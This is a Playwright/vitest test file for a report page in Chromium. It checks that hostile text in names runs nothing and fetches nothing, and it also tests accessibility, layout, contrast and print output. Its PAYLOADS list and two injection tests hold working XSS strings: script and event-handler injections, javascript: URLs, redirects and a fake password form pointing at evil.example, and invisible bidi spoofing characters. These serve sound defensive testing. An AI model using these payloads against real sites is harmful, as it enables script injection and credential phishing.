/** The page of a report in Chromium: what it runs, what it shows, and how accessible it is. */
import axe, { type AxeResults } from "axe-core";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { reportHtml } from "../../src/report/index.js";
import { type BrowserWindow, noChromium, openBrowser } from "./chromium.js";
import { earlier, growing, madeReport, ofEverything, ofSeven, withTexts } from "./made-report.js";

/** Attacks by somebody who chooses the name of a browser, a city or a user. */
const PAYLOADS = {
  "a script": "<script>alert(1)</script>",
  "a picture that fails": `"'><img src=x onerror=alert(1)>`,
  "a drawing that loads": "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
  "an end of what it stands in": `</td></table></dd></text></svg></title></desc><iframe src="https://evil.example/">`,
  "an end of an attribute": `" onmouseover="alert(1)" autofocus onfocus=alert(1) x="`,
  "an address with a script": "javascript:alert(document.domain)",
  "a style": "</style><style>*{display:none!important;background:url(https://evil.example/)}</style>",
  "a redirection": `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  "a form": `<form action="https://evil.example/"><input name=password autofocus><button>Sign in</button></form>`,
  "a comment and a template": "<!--<template><script>alert(1)//--></script>",
  entities: "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
  "another direction": "\u202Egnp.exe\u2066\u2069\u200f",
  "what nobody sees": "ad\u200b\u2060\ufeff\u00ad\u3164\u{e0041}min\u0000\u001b[2J",
} as const;

/** Invisible characters that change what is read. */
const UNSEEN = /[\p{Bidi_Control}\p{Default_Ignorable_Code_Point}\u2800\ufff9-\ufffb]|(?!\n)\p{Cc}/u;

const SCHEMES = ["light", "dark"] as const;
const WIDE = { width: 1280, height: 900 };
const NARROW = { width: 360, height: 740 };

const describeInChromium = noChromium === null ? describe : describe.skip;

describeInChromium(
  `a report's page in Chromium${noChromium === null ? "" : ` (skipped: ${noChromium})`}`,
  () => {
    let browser: BrowserWindow;
    beforeAll(async () => {
      browser = await openBrowser();
    });
    afterAll(() => browser?.close());

    describe("the page runs nothing and requests nothing", () => {
      let ours: string[];
      beforeAll(async () => {
        const harmless = withTexts(await ofEverything(), (text) => `harmless ${text}`);
        await browser.show(await reportHtml(harmless));
        ours = await elementsOf(browser.page);
      });

      test.each(Object.entries(PAYLOADS))("with %s in every text", async (_name, payload) => {
        const hostile = withTexts(await ofEverything(), (text) => payload + text);
        const happened = await browser.show(await reportHtml(hostile));
        // Anything that needs a mouse or a keyboard would happen now.
        await browser.page.mouse.move(300, 200);
        await browser.page.keyboard.press("Tab");
        expect(happened).toEqual([]);
        expect(await elementsOf(browser.page)).toEqual(ours);
        expect(await textOf(browser.page)).not.toMatch(UNSEEN);
      });

      test("and the test would notice if it did", async () => {
        const html = (await reportHtml(await ofSeven()))
          .replace(/<meta http-equiv[^>]*>/, "")
          .replace("<main>", `<main><img src="https://evil.invalid/x" onerror="alert(1)"><iframe></iframe>`);
        const happened = await browser.show(html);
        await expect.poll(() => happened).toContain("dialog: 1");
        expect(happened).toContain("request: https://evil.invalid/x");
        expect(happened).toContain("frame");
      });

      test("and its own policy would block it", async () => {
        const html = (await reportHtml(await ofSeven())).replace(
          "<main>",
          `<main style="color:red"><script>alert(1)</script><img src="https://evil.invalid/x" onerror="alert(1)">`,
        );
        const happened = await browser.show(html);
        for (const refused of ["inline style", "inline script", "inline event handler", "evil.invalid"]) {
          const told = expect.stringMatching(new RegExp(`${refused}.*violates.*Content Security Policy`));
          await expect.poll(() => happened).toContainEqual(told);
        }
        expect(happened.filter((what) => what.startsWith("dialog"))).toEqual([]);
      });
    });

    const screens = [
      { colorScheme: "light", viewport: WIDE },
      { colorScheme: "dark", viewport: WIDE },
      { colorScheme: "light", viewport: NARROW },
    ] as const;
    const kinds = [
      { of: "every outcome", make: ofEverything },
      { of: "seven sessions", make: ofSeven },
      { of: "one session", make: () => madeReport([41 * 86_400_000]) },
      { of: "more sessions than lines", make: () => madeReport(growing(25)) },
      { of: "a session from long ago", make: () => madeReport(growing(12)) },
      { of: "no session", make: () => madeReport([]) },
      { of: "an earlier version", make: async () => earlier(await ofEverything()) },
    ];

    describe.each(kinds)("with $of", ({ make }) => {
      test("has no problem that axe finds", async () => {
        const happened = await browser.show(await reportHtml(await make()));
        await browser.page.evaluate(axe.source);
        for (const { colorScheme, viewport } of screens) {
          await browser.page.emulateMedia({ colorScheme });
          await browser.page.setViewportSize(viewport);
          const { violations, passes } = await browser.page.evaluate<AxeResults>(
            "axe.run({ preload: false })",
          );
          expect(violations.map(({ id, nodes }) => ({ id, at: nodes.map(({ html }) => html) }))).toEqual([]);
          const tried = passes.map(({ id }) => id);
          expect(tried).toEqual(expect.arrayContaining(["color-contrast", "heading-order", "html-has-lang"]));
        }
        expect(happened).toEqual([]);
      });

      test("is no wider than the screen, and neither are the words in its pictures", async () => {
        await browser.show(await reportHtml(await make()));
        for (const width of [360, 720, 1000, 1280]) {
          await browser.page.setViewportSize({ width, height: 900 });
          expect(await browser.page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
          expect({ width, misplaced: await browser.page.evaluate(misplacedWords) }).toEqual({
            width,
            misplaced: [],
          });
        }
      });
    });

    test("the page breaks long ids, names and addresses without blanks", async () => {
      const long = withTexts(await ofEverything(), (text) => `${text}${"x".repeat(250)}`);
      for (const viewport of [WIDE, NARROW]) {
        await browser.show(await reportHtml(long), { viewport });
        expect(await browser.page.evaluate(() => document.documentElement.scrollWidth)).toBe(viewport.width);
      }
    });

    test.each(SCHEMES)("pictures have colours with enough contrast in %s colours", async (colorScheme) => {
      await browser.show(await reportHtml(await ofEverything()), { colorScheme });
      const colours = await browser.page.evaluate(() => {
        const style = getComputedStyle(document.documentElement);
        return Object.fromEntries(
          ["ink", "paper", "quiet", "good", "open"].map((name) => [
            name,
            style.getPropertyValue(`--${name}`).trim(),
          ]),
        );
      });
      // axe does not check the text of a drawing.
      for (const name of ["ink", "quiet", "good", "open"]) {
        expect(contrast(colours[name] ?? "", colours.paper ?? "")).toBeGreaterThan(4.5);
      }
    });

    test("the page is printed on A4, black on white, whatever the screen's colours are", async () => {
      await browser.show(await reportHtml(await ofEverything()), {
        colorScheme: "dark",
      });
      const pdf = (await browser.page.pdf({ preferCSSPageSize: true })).toString("latin1");
      expect(pdf.match(/\/Type\s*\/Page\b(?!s)/g)?.length).toBeGreaterThan(1);
      expect(pdf).toMatch(/\/MediaBox \[0 0 59[45][.\d]* 84[12][.\d]*\]/);
      await browser.page.emulateMedia({ media: "print" });
      expect(await browser.page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe(
        "rgb(255, 255, 255)",
      );
      expect(await browser.page.evaluate(() => getComputedStyle(document.body).color)).toBe("rgb(0, 0, 0)");
    });
  },
);

/** Every element with the names of its attributes. Text that is not treated as text would add to this list. */
async function elementsOf(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll("*")].map(
      (element) => `${element.tagName} ${element.getAttributeNames().sort().join(" ")}`,
    ),
  );
}

/** All text and the values of all attributes. */
async function textOf(page: Page): Promise<string> {
  return page.evaluate(() =>
    [...document.querySelectorAll("*")]
      .flatMap((element) => element.getAttributeNames().map((name) => element.getAttribute(name)))
      .concat(document.title, document.body.textContent)
      .join("\n"),
  );
}

/** The words in pictures that are cut off or overlap others. This runs in the page. */
function misplacedWords(): string[] {
  const found: string[] = [];
  for (const picture of document.querySelectorAll("figure > svg")) {
    const frame = picture.getBoundingClientRect();
    const words = [...picture.querySelectorAll("text")]
      .map((text) => ({ text: text.textContent, at: text.getBoundingClientRect() }))
      .filter(({ at }) => at.width > 0);
    for (const [index, { text, at }] of words.entries()) {
      if (at.left < frame.left - 1 || at.right > frame.right + 1 || at.bottom > frame.bottom + 1) {
        found.push(`${text} is cut off`);
      }
      for (const other of words.slice(index + 1)) {
        const across = Math.min(at.right, other.at.right) - Math.max(at.left, other.at.left);
        const down = Math.min(at.bottom, other.at.bottom) - Math.max(at.top, other.at.top);
        // The boxes of two lines of text may touch.
        if (across > 0 && down > 3) found.push(`${text} stands on ${other.text}`);
      }
    }
  }
  return found;
}

/** The contrast between two colours (`#rrggbb`) according to WCAG 2. */
function contrast(one: string, other: string): number {
  const luminance = (colour: string) => {
    const [red = 0, green = 0, blue = 0] = [1, 3, 5].map((at) => {
      const share = Number.parseInt(colour.slice(at, at + 2), 16) / 255;
      return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
  };
  const [most = 0, least = 0] = [luminance(one), luminance(other)].sort((a, b) => b - a);
  return (most + 0.05) / (least + 0.05);
}
